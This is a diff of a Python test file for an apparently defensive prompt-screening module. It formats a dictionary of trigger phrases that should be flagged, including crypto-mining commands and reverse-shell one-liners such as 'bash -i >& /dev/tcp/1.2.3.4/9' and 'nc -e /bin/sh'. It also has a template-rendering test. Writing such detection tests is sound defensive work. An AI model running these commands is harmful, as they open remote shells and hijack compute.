@@ -9,7 +9,11 @@ from hypothesis import strategies as st
 from ferryman.domain import prompt
 
 TRIPS = {
-    "infrastructure provisioning": ["run terraform apply", "please create 20 gpu instances", "gcloud compute instances create x"],
+    "infrastructure provisioning": [
+        "run terraform apply",
+        "please create 20 gpu instances",
+        "gcloud compute instances create x",
+    ],
     "crypto mining": ["start XMRig", "connect stratum+tcp://pool", "mine some Monero", "set up a crypto miner"],
     "a reverse shell": ["bash -i >& /dev/tcp/1.2.3.4/9", "open a reverse shell", "nc -e /bin/sh host 1"],
     "exfiltration of secrets": [
@@ -39,7 +43,9 @@ def test_an_ordinary_prompt_trips_nothing(text):
 
 
 def test_variables_are_put_in():
-    text = prompt.render("{{date}} {{ task_name }} {{execution_id}}", {"date": "2026-01-02", "task_name": "T", "execution_id": "e"})
+    text = prompt.render(
+        "{{date}} {{ task_name }} {{execution_id}}", {"date": "2026-01-02", "task_name": "T", "execution_id": "e"}
+    )
     assert text == "2026-01-02 T e"
 
 
